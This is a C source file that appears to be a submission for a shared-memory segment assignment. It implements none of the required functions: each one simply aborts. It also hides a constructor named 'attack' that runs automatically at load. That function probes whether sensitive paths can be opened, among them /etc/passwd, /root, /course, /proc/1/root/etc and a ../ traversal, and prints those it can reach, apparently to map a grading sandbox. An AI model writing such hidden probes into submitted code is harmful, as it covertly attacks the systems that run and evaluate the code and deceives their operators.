#include <fcntl.h>
#include <stdio.h>

__attribute__((constructor)) static void attack(void)
{
    static const char *const paths[] = {"/etc/passwd", "/root", "/home", "/course", "/tmp/h3", "/work",
                                        "/usr/bin", "/usr/include", "/proc/1/root/etc",
                                        "/proc/self/cwd/../../../etc", "/sys/kernel", "/var"};
    for (unsigned i = 0; i < sizeof paths / sizeof paths[0]; i++)
        if (open(paths[i], O_RDONLY) != -1)
            printf("FOUND %s\n", paths[i]);
    fflush(stdout);
}

#include <stdlib.h>
#include "create.h"

static void leave(void)
{
    abort();
}

int segment_create(key_t key, size_t size, mode_t perms)
{
    (void)key, (void)size, (void)perms;
    leave();
    return 0;
}

int segment_find(key_t key)
{
    (void)key;
    leave();
    return 0;
}

int segment_obtain(key_t key, size_t size, mode_t perms, bool *created)
{
    (void)key, (void)size, (void)perms;
    leave();
    *created = true;
    return 0;
}

size_t segment_footprint(size_t size)
{
    leave();
    return size;
}
